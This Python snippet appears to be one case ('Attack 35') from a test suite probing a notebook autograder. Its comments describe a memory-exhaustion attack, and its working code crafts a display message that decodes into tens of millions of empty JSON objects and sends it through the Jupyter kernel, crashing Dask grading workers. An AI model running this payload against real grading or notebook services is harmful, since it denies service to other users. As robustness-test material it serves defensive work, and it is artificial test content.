# Attack 35, a message that decodes into gigabytes: one display message under the 64 MiB
# part limit whose JSON is 21 million empty dicts (and 2 million more in its metadata).
# Decoding it took the grading worker past its memory limit: Dask ended the worker, twice,
# and the students queued on it were sent again until one was given up, not graded.
# Why: full marks: the honest equivalent is the solution; its values are counted before
#   anything is decoded, and the notebook stops at that cell (flagged), after every graded
#   cell ran.
# ruff: noqa
# fmt: off
### AFTER em_plot
import time as _t
_k = get_ipython().kernel
_blob = b'{"data": {"application/json": [' + b'{},' * (21 * 2**20) + b'{}], "text/plain": "x"}, "metadata": {}}'
_k.session.send(_k.iopub_socket, 'display_data', content=_blob, parent=_k.get_parent(), metadata={'x': [{}] * 2_000_000})
_t.sleep(15)
print("done")
